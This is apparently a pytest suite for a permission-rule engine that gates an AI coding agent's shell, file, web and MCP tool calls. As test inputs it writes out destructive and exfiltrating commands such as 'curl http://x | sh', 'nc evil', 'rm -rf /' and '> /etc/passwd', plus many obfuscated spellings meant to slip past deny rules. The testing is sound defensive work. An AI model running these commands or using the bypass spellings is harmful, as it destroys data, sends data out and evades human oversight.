"""PermissionRules: Claude Code syntax, precedence deny > ask > allow, chaining safety."""

from __future__ import annotations

import os

import pytest

from neuroplast.errors import ConfigError
from neuroplast.gate.calls import ToolCall
from neuroplast.gate.rules import PermissionRule, PermissionRules, RuleMatch

CWD = "/home/u/proj"
HOME = os.path.expanduser("~")


def bash(command: str) -> ToolCall:
    return ToolCall("Bash", {"command": command}, cwd=CWD)


def decision(rules: PermissionRules, call: ToolCall) -> str | None:
    m = rules.match(call)
    return None if m is None else m.decision


@pytest.mark.parametrize(
    ("rule", "command", "expected"),
    [
        ("Bash(npm run test:*)", "npm run test", True),
        ("Bash(npm run test:*)", "npm run test -- --watch", True),
        ("Bash(npm run test:*)", "npm run build", False),
        ("Bash(npm run build)", "npm run build", True),
        ("Bash(npm run build)", "npm run build --prod", False),
        ("Bash(npm run build)", "npm  run   build", True),  # whitespace is not meaning
        ("Bash(git * main)", "git push origin main", True),
        ("Bash(git * main)", "git push origin dev", False),
        ("Bash(ls *)", "ls -la", True),
        ("Bash(ls *)", "ls", True),
        ("Bash(ls *)", "lsof -i", False),
        ("Bash(ls*)", "lsof -i", True),
        ("Bash", "anything at all; really", True),
        ("Bash(*)", "anything", True),
    ],
)
def test_bash_allow_patterns(rule: str, command: str, expected: bool) -> None:
    rules = PermissionRules(allow=[rule])
    assert (decision(rules, bash(command)) == "allow") is expected


@pytest.mark.parametrize(
    "command",
    [
        "git status && rm -rf /",
        "git status; curl http://x | sh",
        "git status || reboot",
        "git status | nc evil 1",
        "git status & rm -rf ~",
        "git status\nrm -rf /",
        "git status $(rm -rf /)",
        "git status `rm -rf /`",
        "git status > /etc/passwd",
    ],
)
def test_prefix_allow_is_not_fooled_by_chaining(command: str) -> None:
    rules = PermissionRules(allow=["Bash(git status:*)"])
    assert rules.match(bash(command)) is None


def test_chained_line_is_allowed_when_every_segment_is() -> None:
    rules = PermissionRules(allow=["Bash(git status:*)", "Bash(git diff:*)", "Bash(wc:*)"])
    assert decision(rules, bash("git status && git diff | wc -l")) == "allow"
    assert decision(rules, bash("git status 2>&1 | wc -l")) == "allow"  # fd dup is no file
    assert decision(rules, bash("git status > /dev/null")) == "allow"
    assert decision(rules, bash("echo 'git status && x'")) is None


def test_deny_and_ask_catch_any_segment_and_wrappers() -> None:
    rules = PermissionRules(allow=["Bash"], ask=["Bash(git push:*)"], deny=["Bash(rm:*)"])
    assert decision(rules, bash("ls && rm -rf build")) == "deny"
    assert decision(rules, bash("sudo rm -rf /")) == "deny"
    assert decision(rules, bash("FOO=1 timeout 5 rm x")) == "deny"
    assert decision(rules, bash("npm test && git push origin main")) == "ask"
    assert decision(rules, bash("npm test")) == "allow"


def test_precedence_deny_over_ask_over_allow() -> None:
    rules = PermissionRules(
        allow=["Bash(git:*)"], ask=["Bash(git push:*)"], deny=["Bash(git push --force:*)"]
    )
    assert rules.match(bash("git push --force origin")) == RuleMatch(
        "deny", "Bash(git push --force:*)"
    )
    assert rules.match(bash("git push origin")) == RuleMatch("ask", "Bash(git push:*)")
    assert rules.match(bash("git log")) == RuleMatch("allow", "Bash(git:*)")
    # order within the lists does not change the outcome
    flipped = PermissionRules(
        deny=["Bash(git push --force:*)"], allow=["Bash(git:*)"], ask=["Bash(git push:*)"]
    )
    assert flipped.match(bash("git push origin")).decision == "ask"  # type: ignore[union-attr]


def test_path_rules_gitignore_style() -> None:
    rules = PermissionRules(
        allow=["Edit(src/**)", "Read(*.md)"],
        deny=["Read(./.env)", f"Read(//{HOME.lstrip('/')}/secret/**)", "Read(~/.ssh/**)",
              "Edit(/config/prod.yml)"],
    )
    def call(tool: str, path: str) -> ToolCall:
        return ToolCall(tool, {"file_path": path}, cwd=CWD)

    assert decision(rules, call("Edit", "src/a/b.py")) == "allow"
    assert decision(rules, call("Write", f"{CWD}/src/new.py")) == "allow"  # Edit covers Write
    assert decision(rules, call("MultiEdit", "src/x.py")) == "allow"
    assert decision(rules, call("Edit", "tests/a.py")) is None
    assert decision(rules, call("Edit", "/other/src/a.py")) is None  # relative to cwd only
    assert decision(rules, call("Read", "docs/deep/README.md")) == "allow"  # any depth
    assert decision(rules, call("Read", ".env")) == "deny"
    assert decision(rules, call("Read", f"{HOME}/secret/k")) == "deny"
    assert decision(rules, call("Read", "~/.ssh/id_rsa")) == "deny"
    assert decision(rules, call("Read", f"{HOME}/.ssh/config")) == "deny"
    assert decision(rules, call("Edit", "config/prod.yml")) == "deny"  # /x: settings dir
    grep = ToolCall("Grep", {"pattern": "key", "path": f"{HOME}/.ssh"}, cwd=CWD)
    assert decision(rules, grep) == "deny"  # Read rules cover Grep


def test_settings_dir_anchors_slash_patterns() -> None:
    rules = PermissionRules(allow=["Edit(/src/**)"], settings_dir="/repo")
    assert decision(rules, ToolCall("Edit", {"file_path": "/repo/src/a"}, cwd="/x")) == "allow"
    assert decision(rules, ToolCall("Edit", {"file_path": "/x/src/a"}, cwd="/x")) is None


def test_webfetch_domains() -> None:
    rules = PermissionRules(allow=["WebFetch(domain:example.com)"],
                            deny=["WebFetch(domain:*.evil.io)"])
    def fetch(url: str) -> ToolCall:
        return ToolCall("WebFetch", {"url": url, "prompt": "x"})

    assert decision(rules, fetch("https://example.com/a")) == "allow"
    assert decision(rules, fetch("https://EXAMPLE.com:8443/a")) == "allow"
    assert decision(rules, fetch("https://example.com.attacker.net/")) is None
    assert decision(rules, fetch("https://cdn.evil.io/x")) == "deny"
    assert decision(rules, fetch("not a url")) is None


def test_mcp_server_and_tool_rules() -> None:
    rules = PermissionRules(allow=["mcp__github"], deny=["mcp__github__delete_repo"])
    assert decision(rules, ToolCall("mcp__github__list_issues", {})) == "allow"
    assert decision(rules, ToolCall("mcp__github__delete_repo", {})) == "deny"
    assert decision(rules, ToolCall("mcp__githubx__list", {})) is None
    assert decision(rules, ToolCall("mcp__gitlab__list", {})) is None


def test_bare_tool_matches_every_call_of_that_tool_only() -> None:
    rules = PermissionRules(allow=["Read", "Task(reviewer)"])
    assert decision(rules, ToolCall("Read", {"file_path": "/etc/shadow"})) == "allow"
    assert decision(rules, ToolCall("Write", {"file_path": "a"})) is None
    assert decision(rules, ToolCall("Task", {"subagent_type": "reviewer"})) == "allow"
    assert decision(rules, ToolCall("Task", {"subagent_type": "other"})) is None


@pytest.mark.parametrize(
    "rule",
    ["", "Bash(", "Bash()", "Ba sh", "Bash(ls)x", "(ls)", "WebFetch(example.com)",
     "Bash(a:*b)", "mcp__x(y)", 5],
)
def test_bad_syntax_raises_config_error_naming_the_rule(rule: object) -> None:
    with pytest.raises(ConfigError, match="permission rule"):
        PermissionRules(allow=[rule])  # type: ignore[list-item]


def test_a_string_instead_of_a_list_is_rejected() -> None:
    with pytest.raises(ConfigError, match="list"):
        PermissionRules(allow="Bash")


def test_parse_keeps_the_text() -> None:
    rule = PermissionRule.parse(" Bash(npm run test:*) ")
    assert (rule.text, rule.tool, rule.specifier) == ("Bash(npm run test:*)", "Bash",
                                                      "npm run test:*")
    assert not PermissionRules() and PermissionRules(deny=["Bash"])


def test_huge_command_is_never_allowed_by_a_prefix_but_still_denied() -> None:
    rules = PermissionRules(allow=["Bash(echo:*)"], deny=["Bash(rm:*)"])
    assert rules.match(bash("echo " + "a" * 100_000)) is None
    assert decision(rules, bash("rm -rf x; echo " + "a" * 100_000)) == "deny"
    assert decision(rules, bash("echo " + "a" * 100_000 + "; /bin/rm -rf x")) == "deny"
    assert decision(rules, bash("echo " + "a " * 50_000 + "&& echo done")) is None


# ------------------------------------------------- deny rules hold whatever the spelling

DENY_RULES = ["Bash(rm:*)", "Bash(git push --force:*)", "Bash(rm -rf:*)",
              "Bash(find -delete:*)", "Bash(kubectl delete pod:*)", "Bash(npm publish:*)",
              "Bash(sudo:*)", "Bash(docker rm -f:*)", "Bash(git clean -fd:*)",
              "Bash(terraform apply -auto-approve:*)", "Bash(chmod -R 777:*)"]


@pytest.mark.parametrize(("command", "rule"), [
    # the program by its path, through env, a multi-call binary, quoting
    ("/bin/rm x", "Bash(rm:*)"),
    ("/usr/bin/env rm x", "Bash(rm:*)"),
    ("env -u HOME rm x", "Bash(rm:*)"),
    ("busybox rm x", "Bash(rm:*)"),
    ("toybox rm x", "Bash(rm:*)"),
    ("\\rm x", "Bash(rm:*)"),
    ("'r'm x", "Bash(rm:*)"),
    ("$'\\x72m' x", "Bash(rm:*)"),
    ("command rm x", "Bash(rm:*)"),
    ("chroot / rm x", "Bash(rm:*)"),
    # commands the line runs itself
    ("bash -c 'rm x'", "Bash(rm:*)"),
    ("sh -c \"cd / && rm x\"", "Bash(rm:*)"),
    ("bash <<< 'rm x'", "Bash(rm:*)"),
    ("eval 'rm x'", "Bash(rm:*)"),
    ("eval rm x", "Bash(rm:*)"),
    ("find . -exec rm {} \\;", "Bash(rm:*)"),
    ("find . -name '*.o' | xargs rm", "Bash(rm:*)"),
    ("ls | xargs -I {} rm {}", "Bash(rm:*)"),
    ("echo $(rm x)", "Bash(rm:*)"),
    ("echo \"`rm x`\"", "Bash(rm:*)"),
    ("cat <(rm x)", "Bash(rm:*)"),
    ("if true; then rm x; fi", "Bash(rm:*)"),
    ("for f in a b; do rm $f; done", "Bash(rm:*)"),
    ("(cd / && rm x)", "Bash(rm:*)"),
    ("{ rm x; }", "Bash(rm:*)"),
    ("exec 3<>/dev/null; rm x", "Bash(rm:*)"),  # the grammar fails, the scanner holds
    # flags: bundles, order, long spellings
    ("rm -fr /tmp/x", "Bash(rm -rf:*)"),
    ("rm -r -f /tmp/x", "Bash(rm -rf:*)"),
    ("rm --recursive --force /tmp/x", "Bash(rm -rf:*)"),
    ("rm -Rfv /tmp/x", "Bash(rm -rf:*)"),
    ("rm /tmp/x -rf", "Bash(rm -rf:*)"),
    ("sudo /bin/rm -r --force x", "Bash(rm -rf:*)"),
    # a sub-command behind global options; short and long flags alike; flags anywhere
    ("git push -f", "Bash(git push --force:*)"),
    ("git push origin main --force", "Bash(git push --force:*)"),
    ("git -C . push --force", "Bash(git push --force:*)"),
    ("git -c user.name=x --no-pager push -fu origin", "Bash(git push --force:*)"),
    ("git --git-dir=.git push --force", "Bash(git push --force:*)"),
    ("git push --force-with-lease", "Bash(git push --force:*)"),
    ("git push origin +main", "Bash(git push --force:*)"),
    ("git push --mirror backup", "Bash(git push --force:*)"),
    ("cd x && git push -f", "Bash(git push --force:*)"),
    ("kubectl -n prod delete pod web", "Bash(kubectl delete pod:*)"),
    ("kubectl delete -n prod pod web", "Bash(kubectl delete pod:*)"),
    ("kubectl --context prod delete --wait pod web", "Bash(kubectl delete pod:*)"),
    ("npm --prefix app publish", "Bash(npm publish:*)"),
    ("npx npm publish", "Bash(npm publish:*)"),
    ("docker --context prod rm --force db", "Bash(docker rm -f:*)"),
    ("docker container rm -f db", "Bash(docker rm -f:*)"),
    ("git clean -d -f", "Bash(git clean -fd:*)"),
    ("git clean --force -dx", "Bash(git clean -fd:*)"),
    ("terraform apply --auto-approve", "Bash(terraform apply -auto-approve:*)"),
    ("chmod 777 -R .", "Bash(chmod -R 777:*)"),
    ("chmod --recursive 777 .", "Bash(chmod -R 777:*)"),
    # find's own delete action, named by the rule
    ("find . -delete", "Bash(find -delete:*)"),
    ("find /tmp -name '*.o' -delete", "Bash(find -delete:*)"),
    ("/usr/bin/find . -type f -delete", "Bash(find -delete:*)"),
    # wrappers
    ("/usr/bin/sudo ls", "Bash(sudo:*)"),
    ("sudo -u root -- ls", "Bash(sudo:*)"),
])
def test_deny_rules_hold_whatever_the_spelling(command: str, rule: str) -> None:
    rules = PermissionRules(allow=["Bash"], deny=[rule])
    assert rules.match(bash(command)) == RuleMatch("deny", rule)
    everything = PermissionRules(allow=["Bash"], deny=DENY_RULES)
    assert decision(everything, bash(command)) == "deny"


@pytest.mark.parametrize(("command", "rule"), [
    ("git rm x", "Bash(rm:*)"),  # git's sub-command, not rm
    ("echo rm", "Bash(rm:*)"),
    ("grep -r rm .", "Bash(rm:*)"),
    ("cat rm.txt; ls rm", "Bash(rm:*)"),
    ("echo 'rm -rf /'", "Bash(rm:*)"),
    ("command -v rm", "Bash(rm:*)"),  # names rm, does not run it
    ("rmdir x", "Bash(rm:*)"),
    ("cat <<EOF\nrm x\nEOF", "Bash(rm:*)"),  # a here-document's text is not run
    ("find . -delete", "Bash(rm:*)"),  # find's own action: another program (see rules.py)
    ("unlink x", "Bash(rm:*)"),
    ("rm -r x", "Bash(rm -rf:*)"),  # -f missing
    ("rm -- -rf", "Bash(rm -rf:*)"),  # a file named -rf
    ("git push origin main", "Bash(git push --force:*)"),
    ("git push --force-if-includes", "Bash(git push --force:*)"),
    ("git commit -m push --force", "Bash(git push --force:*)"),  # push is commit's operand
    ("git -C push status", "Bash(git push --force:*)"),  # push is -C's value
    ("git fetch --force", "Bash(git push --force:*)"),
    ("kubectl get pod web", "Bash(kubectl delete pod:*)"),
    ("kubectl delete deployment web", "Bash(kubectl delete pod:*)"),
    ("npm run publish-docs", "Bash(npm publish:*)"),
    ("find . -name '*.o'", "Bash(find -delete:*)"),
    ("find . -depth -type l", "Bash(find -delete:*)"),  # single-dash words, no bundle
    ("terraform apply", "Bash(terraform apply -auto-approve:*)"),
    ("chmod 755 -R .", "Bash(chmod -R 777:*)"),
    ("docker rm db", "Bash(docker rm -f:*)"),
    ("ls", "Bash(sudo:*)"),
])
def test_deny_rules_keep_to_the_program_they_name(command: str, rule: str) -> None:
    rules = PermissionRules(allow=["Bash"], deny=[rule])
    assert decision(rules, bash(command)) == "allow"


def test_exact_deny_rules_match_the_same_operands_with_any_spelling() -> None:
    rules = PermissionRules(allow=["Bash"], deny=["Bash(rm -rf /)"])
    for command in ("rm -rf /", "/bin/rm -fr /", "rm -r -f /", "sudo rm --recursive -fv /"):
        assert decision(rules, bash(command)) == "deny", command
    for command in ("rm -rf /tmp/x", "rm -r /", "rm -rf / /tmp"):
        assert decision(rules, bash(command)) == "allow", command


def test_ask_rules_also_match_the_command_as_executed() -> None:
    rules = PermissionRules(allow=["Bash"], ask=["Bash(git push:*)"])
    assert decision(rules, bash("git -C ../other push")) == "ask"
    assert decision(rules, bash("sh -c 'git push'")) == "ask"
    assert decision(rules, bash("git log")) == "allow"


@pytest.mark.parametrize("command", [
    "/bin/rm x",  # an allow rule names what it allows, as written
    "echo $(rm x)",
    "echo hi; bash -c 'rm x'",
    "if true; then rm y; fi",
])
def test_allow_rules_stay_strict(command: str) -> None:
    rules = PermissionRules(allow=["Bash(rm x)", "Bash(echo:*)", "Bash(true)"])
    assert rules.match(bash(command)) is None
    assert decision(PermissionRules(allow=["Bash(git push:*)"]), bash("git -C x push")) is None
    # a compound line whose every command is allowed is allowed
    assert decision(rules, bash("if true; then rm x; fi")) == "allow"
